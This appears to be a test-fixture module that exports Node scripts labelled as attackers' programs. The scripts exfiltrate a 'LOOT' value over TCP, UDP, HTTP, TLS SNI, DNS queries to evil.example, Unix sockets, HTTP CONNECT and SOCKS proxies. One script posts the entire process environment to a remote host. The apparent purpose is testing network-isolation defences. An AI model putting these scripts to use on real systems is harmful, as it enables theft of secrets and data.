/** The attackers' programs, as Node scripts. `HOST`, `PORT`, `LOOT` are in their environment, `EXTRA` is a variable. */
export const TCP = `const s = require('net').connect(Number(process.env.PORT), process.env.HOST, () => s.write(process.env.LOOT));
s.on('error', () => process.exit(1)); s.setTimeout(2000, () => process.exit(0)); s.on('close', () => process.exit(0));
setTimeout(() => process.exit(0), 1500);`;
export const RAW = `const s = require('net').connect(Number(process.env.PORT), process.env.HOST, () => s.write(Buffer.from(EXTRA, 'latin1')));
s.on('error', () => process.exit(1)); s.on('close', () => process.exit(0)); s.resume(); setTimeout(() => process.exit(0), 1500);`;
export const UDP = `const s = require('dgram').createSocket(process.env.HOST.includes(':') ? 'udp6' : 'udp4');
s.on('error', () => process.exit(1));
s.send(Buffer.from(process.env.LOOT), Number(process.env.PORT), process.env.HOST, () => setTimeout(() => process.exit(0), 500));`;
export const HTTP = `const r = require('http').request({ host: process.env.HOST, port: Number(process.env.PORT), path: '/' + process.env.LOOT,
headers: EXTRA ? { host: EXTRA } : {} }, (x) => { x.resume(); x.on('end', () => process.exit(0)); });
r.on('error', () => process.exit(1)); r.end(); setTimeout(() => process.exit(0), 3000);`;
/** A lifecycle script that somebody changed: it posts the whole environment. */
export const ENVIRONMENT = `const r = require('http').request({ host: process.env.HOST, port: Number(process.env.PORT), method: 'POST' },
(x) => x.resume()); r.on('error', () => process.exit(1)); r.end(JSON.stringify(process.env) + ' HTTP/1.1\\r\\n');
setTimeout(() => process.exit(0), 1500);`;
export const TLS = `const s = require('tls').connect({ host: process.env.HOST, port: Number(process.env.PORT), rejectUnauthorized: false,
servername: EXTRA }); s.on('error', () => process.exit(1)); setTimeout(() => process.exit(0), 1500);`;
export const LOOKUP = `const { Resolver } = require('dns'); const r = new Resolver({ timeout: 800, tries: 1 });
if (process.env.HOST) r.setServers([process.env.HOST + ':' + process.env.PORT]);
r.resolve4(process.env.LOOT + '.evil.example', () => process.exit(0)); setTimeout(() => process.exit(0), 2500);`;
export const SYSTEM_LOOKUP = `if (process.env.PORT !== '53') { ${LOOKUP} } else
require('dns').lookup(process.env.LOOT + '.evil.example', () => process.exit(0));`;
export const ABSTRACT = `const s = require('net').connect({ path: EXTRA }, () => s.write(process.env.LOOT));
s.on('error', () => process.exit(1)); setTimeout(() => process.exit(0), 800);`;
/** Through a proxy when it is inside, straight when it is outside: the bytes after the handshake are the attack. */
export const CONNECT = `const [place, bytes] = JSON.parse(EXTRA);
const s = require('net').connect(Number(process.env.PORT), process.env.HOST, () => s.write(place ? 'CONNECT ' + place + ' HTTP/1.1\\r\\nhost: ' + place + '\\r\\n\\r\\n' : Buffer.from(bytes, 'latin1')));
s.once('data', (d) => { if (place && String(d).includes(' 200 ')) s.write(Buffer.from(bytes, 'latin1')); });
s.on('error', () => process.exit(1)); s.on('close', () => process.exit(0)); setTimeout(() => process.exit(0), 1500);`;
export const SOCKS = `const [address, bytes] = JSON.parse(EXTRA);
const s = require('net').connect(Number(process.env.PORT), process.env.HOST, () => s.write(address ? Buffer.from([5, 1, 0]) : Buffer.from(bytes, 'latin1')));
let n = 0; s.on('data', (d) => { n += 1; if (!address) return;
if (n === 1) s.write(Buffer.from(address, 'hex')); else if (d[1] === 0) s.write(Buffer.from(bytes, 'latin1')); });
s.on('error', () => process.exit(1)); s.on('close', () => process.exit(0)); setTimeout(() => process.exit(0), 1500);`;
